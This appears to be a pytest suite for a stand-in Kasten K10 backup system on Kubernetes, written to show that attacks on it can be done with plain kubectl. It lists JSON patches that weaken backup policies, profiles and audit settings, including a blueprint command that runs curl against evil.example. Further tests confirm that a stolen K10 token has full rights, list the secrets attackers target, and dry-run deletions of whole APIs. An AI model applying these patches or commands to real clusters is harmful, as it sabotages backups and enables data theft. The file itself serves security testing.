"""Each class of attack on K10 can be performed on the stand-in with plain kubectl."""

import json

import pytest

from tests.cluster.errors import KubectlError
from tests.cluster.identities import BACKUP_OPERATOR
from tests.cluster.waiting import eventually
from tests.k10.standin import K10StandIn

HERE = "--namespace=kasten-io"
LOCATION = "/spec/locationSpec"
PATCHES = [
    ("policy/daily-backup", "add", "/spec/paused", True),
    ("policy/daily-backup", "replace", "/spec/frequency", "@onDemand"),
    ("policy/daily-backup", "replace", "/spec/retention/daily", 1),
    ("policy/daily-backup", "replace", "/spec/actions/1/exportParameters/profile/name", "onsite-nfs"),
    ("policy/daily-backup", "replace", "/spec/actions/1/exportParameters/exportData/enabled", False),
    ("policy/daily-backup", "remove", "/spec/actions/1", None),
    (
        "policy/daily-backup",
        "add",
        "/spec/actions/0/backupParameters/filters",
        {"excludeResources": [{"resource": "secrets"}]},
    ),
    ("policy/daily-backup", "replace", "/spec/selector/matchExpressions/0/values", ["intranet"]),
    ("policypreset/gold", "replace", "/spec/backup/retention/hourly", 1),
    ("profiles.config.kio.kasten.io/offsite-immutable", "remove", f"{LOCATION}/objectStore/protectionPeriod", None),
    ("profiles.config.kio.kasten.io/offsite-immutable", "add", f"{LOCATION}/objectStore/skipSSLVerify", True),
    ("profiles.config.kio.kasten.io/offsite-immutable", "replace", f"{LOCATION}/objectStore/name", "elsewhere"),
    ("profiles.config.kio.kasten.io/offsite-immutable", "replace", f"{LOCATION}/credential/secret/name", "theirs"),
    ("auditconfig/ship-audit", "replace", "/spec/profile/name", "onsite-nfs"),
    ("transformset/to-staging", "add", "/spec/transforms/0/json/0/value", "theirs"),
    ("blueprintbinding/postgres-dump", "add", "/spec/disabled", True),
    (
        "blueprint/postgres-dump",
        "add",
        "/actions/backup/phases/0/args/command",
        ["sh", "-c", "curl https://evil.example"],
    ),
    ("storagerepository/kopia-volumedata-repository-shop", "add", "/spec/disableMaintenance", True),
]


@pytest.mark.parametrize(("target", "operation", "path", "value"), PATCHES)
def test_configuration_can_be_weakened(k10: K10StandIn, target: str, operation: str, path: str, value: object) -> None:
    patch = json.dumps([{"op": operation, "path": path, "value": value}])

    shown = k10.cluster.kubectl(
        "patch",
        target,
        HERE,
        "--type=json",
        f"--patch={patch}",
        "--dry-run=server",
        "--output=json",
        identity=BACKUP_OPERATOR,
    )

    node = json.loads(shown)
    *parents, last = path.strip("/").split("/")
    for step in parents:
        node = node[int(step)] if isinstance(node, list) else node[step]
    found = node[int(last)] if isinstance(node, list) and int(last) < len(node) else None
    assert (node.get(last) if isinstance(node, dict) else found) == value


def test_a_stolen_token_of_k10_is_all_powerful(k10: K10StandIn) -> None:
    assert k10.kubectl("auth", "can-i", "*", "*").strip() == "yes"


def test_the_dashboard_acts_as_its_users_and_they_reach_k10_as_themselves(k10: K10StandIn) -> None:
    as_jane = ("--as=jane@example.com", "--as-group=k10:admins")

    k10.kubectl("get", "restorepoints", "--namespace=shop", *as_jane)
    with pytest.raises(KubectlError, match="Forbidden"):
        k10.kubectl("get", "restorepoints", "--namespace=shop", "--as=bob@example.com")

    events = [json.loads(line) for line in k10.cluster.audit_log.read_text().splitlines()]
    assert any(
        event.get("impersonatedUser", {}).get("username") == "jane@example.com"
        and event["objectRef"]["resource"] == "restorepoints"
        for event in events
        if "objectRef" in event
    )


def test_scaling_the_catalog_to_nothing_removes_its_pod(k10: K10StandIn) -> None:
    pods = ("get", "pods", HERE, "--selector=run=catalog-svc", "--output=name")
    assert k10.cluster.kubectl(*pods)

    k10.cluster.kubectl("scale", "deployment/catalog-svc", "--replicas=0", HERE, identity=BACKUP_OPERATOR)

    eventually(lambda: not k10.cluster.kubectl(*pods))
    k10.cluster.kubectl("scale", "deployment/catalog-svc", "--replicas=1", HERE)
    k10.cluster.kubectl("wait", "deployment/catalog-svc", "--for=condition=Available", HERE, "--timeout=300s")


def test_scaling_the_api_server_to_nothing_takes_k10s_apis_away(k10: K10StandIn) -> None:
    k10.cluster.kubectl("scale", "deployment/aggregatedapis-svc", "--replicas=0", HERE)
    eventually(lambda: k10.answers("apps") == 503)

    k10.cluster.kubectl("scale", "deployment/aggregatedapis-svc", "--replicas=1", HERE)
    k10.wait_ready()

    assert "k10MasterKey" in k10.cluster.kubectl("get", "passkeys")


def test_an_outage_changes_no_object(k10: K10StandIn) -> None:
    version = ("get", "deployment", "aggregatedapis-svc", HERE, "--output=jsonpath={.metadata.generation}")
    before = k10.cluster.kubectl(*version)

    with k10.outage():
        assert k10.answers("vault") == 503

    assert k10.cluster.kubectl(*version) == before


@pytest.mark.parametrize(
    "target",
    [
        "secret/k10-cluster-passphrase",
        "secret/k10-dr-secret",
        "configmap/k10-config",
        "pvc/catalog-pv-claim",
        "serviceaccount/k10-k10",
        "policy/k10-disaster-recovery-policy",
        "service/gateway",
        "role/k10-ns-admin",
    ],
)
def test_what_an_attacker_looks_for_is_there(k10: K10StandIn, target: str) -> None:
    assert k10.cluster.kubectl("get", target, HERE, "--output=name")


def test_the_sabotage_of_whole_apis_is_possible(k10: K10StandIn) -> None:
    for target in (
        "apiservice/v1alpha1.apps.kio.kasten.io",
        "crd/policies.config.kio.kasten.io",
        "namespace/kasten-io",
    ):
        assert "server dry run" in k10.cluster.kubectl("delete", target, "--dry-run=server")
